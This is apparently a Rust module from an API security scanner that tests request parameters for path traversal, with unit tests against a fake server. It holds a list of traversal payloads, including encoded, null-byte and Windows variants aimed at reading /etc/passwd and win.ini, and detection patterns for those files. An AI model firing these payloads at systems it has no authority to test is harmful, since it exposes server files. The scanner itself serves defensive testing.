//! A value is read as a path, out of the directory that was meant.

use std::sync::LazyLock;

use regex::Regex;

use super::probing::{Aim, named, slots, text_like, url_like};
use crate::{
    check::{Check, Info, Phase, Proof, Risk, Target, Verdict},
    finding::{Section, Severity, Shield},
    model::{Place, Slot},
    script::{Flow, Script},
    wire::Answer,
    world::World,
};

static INFO: Info = Info {
    id: "file_disclosed",
    title: "A value opens files that are not meant to be read",
    section: Section::Security,
    severity: Severity::Critical,
    risk: Risk::Safe,
    phase: Phase::Probe,
    owasp: "API8:2023",
    cwe: 22,
    wfc: None,
    remedy: "Choose files by an id from a list. Where a name must be taken, resolve it and check that the result lies in \
             the directory that is meant.",
    oracle: "The content of a file that every system of its kind has comes back, and neither the good value nor a file \
             of a random name in the same place gives it; twice.",
    requests_max: 20,
};

/// The check.
pub(super) struct FileDisclosed;

/// Ways to a file outside, with `@` for its path without the leading separator; those behind the first are tried only
/// where the slot looks as if it named files.
const WAYS: &[&str] = &[
    "../../../../../../../../@",
    "/@",
    "....//....//....//....//....//....//@",
    "..%2f..%2f..%2f..%2f..%2f..%2f@",
    "..%252f..%252f..%252f..%252f..%252f..%252f@",
    "file:///@",
    "../../../../../../../../@\0",
    "..\\..\\..\\..\\..\\..\\..\\@",
];

static PASSWD: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?m)root:[^:\n]{0,64}:0:0:[^:\n]*:/").ok());
static WIN_INI: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"(?i)\[fonts\]\s*(\\r|\\n|\s)*\[extensions\]").ok());

/// The file that a way leads to, with what stands in it.
fn file(way: &str) -> (&'static str, Option<&'static Regex>) {
    if way.contains('\\') { ("windows\\win.ini", WIN_INI.as_ref()) } else { ("etc/passwd", PASSWD.as_ref()) }
}

impl Check for FileDisclosed {
    fn info(&self) -> &'static Info {
        &INFO
    }

    fn targets(&self, world: &World) -> Vec<Target> {
        slots(world, |_, _, slot| text_like(slot) && !matches!(slot.place, Place::Header(_)))
    }

    fn run(&self, world: &World, target: &Target, script: &mut Script<'_>) -> Flow<Verdict> {
        let aim = Aim::take(world, target, script)?;
        let slot = world.slot(aim.index, &aim.place);
        let likely = slot.is_some_and(|slot| names_files(slot, &aim.text));
        for way in WAYS.iter().take(if likely { WAYS.len() } else { 1 }) {
            let (path, content) = file(way);
            let shows = |answer: &Answer| content.is_some_and(|it| it.is_match(&answer.text()));
            let (first, answer) = aim.send(script, way.replace('@', path))?;
            if !shows(&answer) || shows(&aim.good) {
                continue;
            }
            let word = script.word(12);
            let (control, other) = aim.send(script, way.replace('@', &format!("etc/{word}")))?;
            let (second, again) = aim.send(script, way.replace('@', path))?;
            if shows(&other) || !shows(&again) {
                continue;
            }
            let summary = format!("`{}` opened `{path}` by `{}`", aim.place, way.replace('\0', "%00"));
            let exchanges = vec![(first, "probe"), (control, "control"), (second, "confirmation")];
            return Ok(Verdict::Found(vec![Proof::confirmed(summary, exchanges, Shield::AttackRule)]));
        }
        Ok(Verdict::Clean)
    }
}

fn names_files(slot: &Slot, value: &str) -> bool {
    const WORDS: &[&str] = &[
        "file",
        "path",
        "page",
        "template",
        "theme",
        "doc",
        "folder",
        "dir",
        "load",
        "include",
        "view",
        "lang",
        "locale",
        "layout",
        "attachment",
        "image",
        "download",
        "report",
        "log",
        "style",
        "skin",
        "module",
    ];
    let extension = value.rsplit_once('.').is_some_and(|(name, end)| {
        !name.is_empty() && (2..=5).contains(&end.len()) && end.bytes().all(|it| it.is_ascii_alphanumeric())
    });
    named(slot, WORDS) || value.contains('/') || (extension && !value.contains('@')) || url_like(slot, None)
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::{
        model::Effect,
        script::rehearse::{Ask, Fake, Stage, query, text},
    };

    const CONTENT: &str = "root:x:0:0:root:/root:/bin/sh\nbin:x:1:1::/bin:\n";

    fn trial(opens: fn(&str) -> Option<&'static str>) -> usize {
        let stage = Stage::new()
            .op("GET /files", Effect::Reads, json!("Terms"))
            .slot(query("name"), json!("terms.txt"));
        let mut fake = Fake::new(&stage.world, |ask: &Ask| match opens(&ask.text("name")) {
            Some(content) => text(200, "text/plain", content),
            None => text(404, "text/plain", "no such file"),
        });
        fake.all(&FileDisclosed).len()
    }

    #[test]
    fn finds_ways_out_of_the_directory() {
        assert_eq!(
            trial(|name| (name.starts_with("../") && name.ends_with("/etc/passwd")).then_some(CONTENT)),
            1
        );
        assert_eq!(trial(|name| name.replace("../", "").ends_with("../etc/passwd").then_some(CONTENT)), 1);
        assert_eq!(trial(|name| (name == "/etc/passwd").then_some(CONTENT)), 1);
        assert_eq!(
            trial(|name| name
                .starts_with("..\\")
                .then_some("[fonts]\r\n[extensions]\r\n")
                .filter(|_| name.ends_with("win.ini"))),
            1
        );
    }

    #[test]
    fn is_silent_on_refusals_and_on_a_page_that_always_shows_it() {
        assert_eq!(trial(|name| (name == "terms.txt").then_some("Terms")), 0);
        assert_eq!(trial(|_| Some(CONTENT)), 0);
        assert_eq!(trial(|_| Some("catch all")), 0);
    }
}
